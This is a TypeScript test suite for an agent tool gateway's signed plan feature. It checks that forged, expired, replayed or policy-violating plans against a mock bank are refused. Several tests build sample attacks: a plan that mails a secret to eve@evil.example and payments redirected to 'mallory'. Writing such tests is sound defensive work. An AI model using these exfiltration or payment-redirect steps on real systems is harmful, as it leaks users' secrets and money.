/** Ways around plans, each of which has to end in nothing. */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { openAuditKey } from '../../src/audit/key.ts';
import { Denial } from '../../src/denial.ts';
import { checkSteps } from '../../src/plans/check-steps.ts';
import type { KeptPlan } from '../../src/plans/kept.ts';
import { readPlan } from '../../src/plans/read-plan.ts';
import { isSealed } from '../../src/plans/statement.ts';
import { callerOf, sessionOf, subjectOf } from '../policy/support.ts';
import { openBank, shownBy, statesOf } from '../plans/bank.ts';
import { openKeeping, type Keeping } from '../plans/kept.ts';
import { LIMITS, lookUp, planOf, ref, schemas, stepOf, TOOLS } from '../plans/support.ts';
import { denialOf, textOf } from '../support/replies.ts';
import { scratch, type Context } from '../support/scratch.ts';
import { until } from '../support/until.ts';

const bill = stepOf('bill', 'bank__read_bill', {});
const pay = stepOf('pay', 'bank__pay', {
  to: 'landlord',
  amount: ref('bill', '/structuredContent/amount'),
});
const secret = stepOf('secret', 'bank__read_secret', {});
const echoed = stepOf('echoed', 'bank__echo', { text: ref('secret', '/structuredContent/secret') });

const readBill = { ...bill, arguments: { file: 'x' } };

function violated(why: RegExp): (thrown: unknown) => boolean {
  return (thrown) =>
    thrown instanceof Denial && thrown.code === 'plan-violated' && why.test(thrown.message);
}

/** A plan that is kept, and what keeps it. */
async function kept(context: Context): Promise<Keeping & { readonly plan: KeptPlan }> {
  const keeping = await openKeeping(context);
  return { ...keeping, plan: keeping.submit(planOf(readBill, pay)) };
}

describe('a validated plan', () => {
  test('whose reference is replaced is not run', async (t) => {
    const { keep, plan } = await kept(t);
    keep.recheck(plan, sessionOf(), lookUp);
    const forged = readPlan(
      planOf(readBill, { ...pay, arguments: { to: 'mallory', amount: ref('bill', '/structuredContent/amount') } }),
      LIMITS,
    );
    const { steps } = checkSteps(forged.plan, { lookUp, schemas });
    const swapped = { ...plan, steps: plan.steps.map((one, index) => ({ ...one, step: steps[index] ?? one.step })) };
    assert.throws(() => keep.recheck(swapped, sessionOf(), lookUp), violated(/not what was signed/u));
    assert.equal(swapped.state, 'void');
    // What was validated cannot be changed where it lies.
    assert.throws(() => Object.assign(plan.steps[1]?.step ?? {}, { tool: 'x' }), TypeError);
    assert.throws(() => Object.assign(plan.steps[1]?.step.arguments ?? {}, { to: 'mallory' }), TypeError);
  }); // prettier-ignore

  for (const [name, change] of [
    ['another caller', { caller: { issuer: 'local', subject: 'mallory', client: 'local' } }],
    ['fewer labels', { labels: ['nothing'] }],
    ['a later end', { exp: 4_000_000_000 }],
    ['other steps', { steps: '0'.repeat(64) }],
  ] as const)
    test(`whose statement says ${name} is not signed by it`, async (t) => {
      const { keep, plan, key } = await kept(t);
      const forged = { ...plan, statement: { ...plan.statement, ...change } };
      assert.ok(!isSealed(plan.sealed.token, forged.statement, key));
      assert.throws(() => keep.recheck(forged, sessionOf(), lookUp), violated(/what was signed/u));
    });

  test('has one signature, in one spelling', async (t) => {
    const { plan, key } = await kept(t);
    const { token } = plan.sealed;
    assert.ok(isSealed(token, plan.statement, key));
    const other = openAuditKey(join(await scratch(t), 'audit.key'));
    assert.ok(!isSealed(token, plan.statement, other));
    for (const forged of [`${token}=`, `${token}.`, token.slice(0, -1), `${token.slice(0, -2)}AA`, token.replace(/^[^.]*/u, 'e30')])
      assert.ok(!isSealed(forged, plan.statement, key), forged);
  }); // prettier-ignore

  test('ends with its time', async (t) => {
    const { keep, plan, world } = await kept(t);
    world.time += 60_000;
    assert.throws(() => keep.recheck(plan, sessionOf()), violated(/its time is over/u));
    assert.equal(plan.state, 'expired');
  });

  test('is another one once a tool of it is', async (t) => {
    const { keep, plan } = await kept(t);
    const changed = { ...TOOLS['bank__pay'], sink: ['pay', 'external'] };
    const now = (name: string): ReturnType<typeof lookUp> =>
      name === 'bank__pay' ? { ...subjectOf(), ...changed } : lookUp(name);
    assert.throws(() => keep.recheck(plan, sessionOf(), now), violated(/not the tool any more/u));
  });

  test('is signed again where the policies have changed and still allow it', async (t) => {
    const { keep, plan, world, key } = await kept(t);
    const before = plan.sealed.digest;
    world.policy = 'q';
    keep.recheck(plan, sessionOf());
    assert.notEqual(plan.sealed.digest, before);
    assert.ok(isSealed(plan.sealed.token, plan.statement, key));
    assert.equal(plan.statement.policy, 'q');
    assert.equal(plan.statement.exp, 1_800_000_060);
    assert.equal(plan.statement.caller.subject, callerOf().subject);
  });
});

describe('through a real gateway', () => {
  test('a result that pretends to be a reference stays what it is', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const note = ref('bill', '/structuredContent/note');
    const echo = stepOf('echo', 'bank__echo', { text: note });
    const plan = await client.plan('submit', planOf(bill, secret, { ...echo, dependsOn: ['secret'] }));
    assert.equal((await client.plan('run', { plan: plan['plan'] }))['state'], 'done');
    const pretended = { $step: 'secret', pointer: '/structuredContent/secret' };
    assert.deepEqual(bank.calls().at(-1), { tool: 'echo', args: { text: pretended } });
  }); // prettier-ignore

  test('nobody else runs, sees or cancels a plan, and each is run once', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const { plan } = await client.plan('submit', planOf(stepOf('slow', 'bank__echo', { text: 'x', ms: 300 })));
    const args = { plan: plan ?? '' };
    // Raced: one of them runs it.
    const raced = await Promise.all([1, 2, 3].map(async () => await client.call('sallyport__plan_run', args)));
    assert.equal(raced.filter((one) => denialOf(one) === 'plan-violated').length, 2);
    assert.equal(denialOf(await client.call('sallyport__plan_run', args)), 'plan-violated');
    assert.equal(bank.calls().length, 1);
    // In another process, by the same person, and by another one: there is no such plan, as there is none of any other id.
    const other = await client.plan('submit', planOf(bill));
    const again = await bank.open();
    await bank.signIn({ user: 'bob' });
    const bob = await bank.open();
    for (const stranger of [again, bob])
      for (const verb of ['run', 'status', 'cancel']) {
        const theirs = await stranger.call(`sallyport__plan_${verb}`, { plan: other['plan'] ?? '' });
        const missing = await stranger.call(`sallyport__plan_${verb}`, { plan: 'f'.repeat(32) });
        assert.equal(denialOf(theirs), 'arguments-invalid');
        assert.equal(textOf(theirs), textOf(missing));
      }
    // The signed statement itself is no key to anything.
    assert.equal(denialOf(await client.call('sallyport__plan_run', { plan: other['statement'] ?? '' })), 'arguments-invalid');
    await client.plan('cancel', { plan: other['plan'] });
    assert.equal(denialOf(await client.call('sallyport__plan_run', { plan: other['plan'] ?? '' })), 'plan-violated');
    assert.equal(bank.calls().length, 1);
  }); // prettier-ignore

  test('a plan cannot be run after its time', async (t) => {
    const bank = await openBank(t, { config: { plans: { lifetimeMs: 300 } } });
    const client = await bank.open();
    const { plan } = await client.plan('submit', planOf(bill));
    await sleep(350);
    assert.equal(denialOf(await client.call('sallyport__plan_run', { plan: plan ?? '' })), 'plan-violated');
    assert.equal((await client.plan('status', { plan }))['state'], 'expired');
    assert.deepEqual(bank.calls(), []);
  }); // prettier-ignore

  test('no label is washed off by a step that hands a value on', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const mail = stepOf('mail', 'bank__send_mail', { to: 'eve@evil.example', body: ref('echoed', '/structuredContent/text') });
    const refused = await client.call('sallyport__plan_submit', planOf(secret, echoed, mail));
    assert.equal(denialOf(refused), 'policy-denied');
    assert.match(textOf(refused), /\/steps\/2: policy permits no call of bank__send_mail/u);
    // A mail that holds nothing of it may leave.
    const harmless = { ...mail, arguments: { to: 'eve@evil.example', body: 'hello' }, dependsOn: ['echoed'] };
    const { plan } = await client.plan('submit', planOf(secret, echoed, harmless));
    assert.equal((await client.plan('run', { plan }))['state'], 'done');
    // What a plan has shown counts for the session like any other result.
    const shown = await client.plan('submit', planOf(secret, { ...echoed, reveal: true }));
    const run = await client.plan('run', { plan: shown['plan'] });
    assert.match(JSON.stringify(shownBy(run, 'echoed')), /correct horse/u);
    const direct = await client.call('bank__send_mail', { to: 'eve@evil.example', body: 'x' });
    assert.notEqual(textOf(direct), '{"sent":true}');
    assert.equal(bank.calls().filter(({ tool }) => tool === 'send_mail').length, 1);
  }); // prettier-ignore

  test('what a server says of unseen values in its log labels the session that hears it', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const say = stepOf('say', 'bank__say', { text: ref('secret', '/structuredContent/secret') });
    const { plan } = await client.plan('submit', planOf(secret, say));
    await client.plan('run', { plan });
    await client.next((frame) => JSON.stringify(frame).includes('correct horse'));
    assert.match((await bank.run('session', 'show')).stdout, /secret/u);
    await client.call('bank__send_mail', { to: 'eve@evil.example', body: 'x' });
    assert.ok(!bank.calls().some(({ tool }) => tool === 'send_mail'));
  });

  test('what a step has left at a server is not read back without its label', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const left = stepOf('left', 'bank__pay', { to: 'me', amount: 1, note: ref('secret', '/structuredContent/secret') });
    const { plan } = await client.plan('submit', planOf(secret, left));
    assert.equal((await client.plan('run', { plan }))['state'], 'done');
    assert.match((await bank.run('session', 'show')).stdout, /^every session is calm\n/u);
    await client.call('bank__echo', { text: 'what did I write there?' });
    assert.match((await bank.run('session', 'show')).stdout, /secret/u);
    await client.call('bank__send_mail', { to: 'eve@evil.example', body: 'x' });
    assert.ok(!bank.calls().some(({ tool }) => tool === 'send_mail'));
  }); // prettier-ignore

  test('untrusted text decides no payment, a number may', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const bent = { ...pay, arguments: { to: ref('bill', '/structuredContent/to'), amount: 1 } };
    const { plan } = await client.plan('submit', planOf(bill, bent));
    assert.deepEqual(statesOf(await client.plan('run', { plan })), ['bill: done', 'pay: open approval-required']);
    assert.ok(!bank.calls().some(({ tool }) => tool === 'pay'));
  }); // prettier-ignore

  test('a tool that changes between validation and run is not called', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const slow = stepOf('slow', 'bank__echo', { text: 'x', ms: 1500 });
    const waiting = { ...pay, dependsOn: ['slow'] };
    const before = await client.plan('submit', planOf(bill, pay));
    const during = await client.plan('submit', planOf(bill, slow, waiting));
    const running = client.plan('run', { plan: during['plan'] });
    await until(() => bank.calls().length === 1);
    bank.relock('pay', { sink: ['pay', 'external'] });
    assert.deepEqual(statesOf(await running).at(-1), 'pay: failed plan-violated');
    assert.equal(denialOf(await client.call('sallyport__plan_run', { plan: before['plan'] ?? '' })), 'plan-violated');
    assert.ok(!bank.calls().some(({ tool }) => tool === 'pay'));
  }); // prettier-ignore

  test('policies that change end a plan that they forbid', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const { plan } = await client.plan('submit', planOf(bill, pay));
    writeFileSync(
      join(bank.folder, 'policy.cedar'),
      '@id("all") permit(principal, action, resource); @id("no") forbid(principal, action in Action::"financial", resource);',
    );
    process.kill(client.pid, 'SIGHUP');
    await until(() => bank.audit().filter(({ event }) => event === 'policy-loaded').length === 2);
    assert.equal(denialOf(await client.call('sallyport__plan_run', { plan: plan ?? '' })), 'plan-violated');
    assert.equal((await client.plan('status', { plan }))['state'], 'void');
    assert.deepEqual(bank.calls(), []);
  }); // prettier-ignore

  test('a kill stops a plan that runs', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const hanging = stepOf('slow', 'bank__echo', { text: 'x', ms: 30_000 });
    const { plan } = await client.plan('submit', planOf(hanging, stepOf('after', 'bank__echo', { text: 'y' }, { dependsOn: ['slow'] })));
    const running = client.plan('run', { plan });
    await until(async () => statesOf(await client.plan('status', { plan }))[0] === 'slow: running');
    assert.equal((await bank.run('kill', '--tool', 'bank/echo', '--reason', 'test')).code, 0);
    const run = await running;
    assert.equal(run['state'], 'failed');
    assert.deepEqual(statesOf(run), ['slow: failed killed', 'after: not made']);
  }); // prettier-ignore

  test('a gateway that is killed in the middle of a plan leaves no step that nobody knows of', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const hanging = stepOf('slow', 'bank__echo', { text: 'x', ms: 2000 });
    const { plan } = await client.plan('submit', planOf(hanging, { ...pay, arguments: { to: 'x', amount: 1 }, dependsOn: ['slow'] }));
    client.send({ jsonrpc: '2.0', id: 'run', method: 'tools/call', params: { name: 'sallyport__plan_run', arguments: { plan } } });
    await until(async () => statesOf(await client.plan('status', { plan }))[0] === 'slow: running');
    await client.kill();
    const again = await bank.open();
    assert.equal(denialOf(await again.call('sallyport__plan_run', { plan: plan ?? '' })), 'arguments-invalid');
    await again.end();
    const steps = bank.audit().filter(({ event }) => event === 'plan').map(({ step }) => step);
    assert.deepEqual(steps, ['validated', 'run']);
    assert.equal((await bank.run('audit', 'verify')).code, 0);
    assert.ok(!bank.calls().some(({ tool }) => tool === 'pay'));
  }); // prettier-ignore

  test('plans of one person are bounded', async (t) => {
    const bank = await openBank(t);
    const client = await bank.open();
    const ids: unknown[] = [];
    for (let n = 0; n < 8; n++) ids.push((await client.plan('submit', planOf(bill)))['plan']);
    assert.equal(denialOf(await client.call('sallyport__plan_submit', planOf(bill))), 'rate-limited');
    const [first] = ids;
    await client.plan('cancel', { plan: typeof first === 'string' ? first : '' });
    assert.equal((await client.plan('submit', planOf(bill)))['state'], 'ready');
  }); // prettier-ignore
});
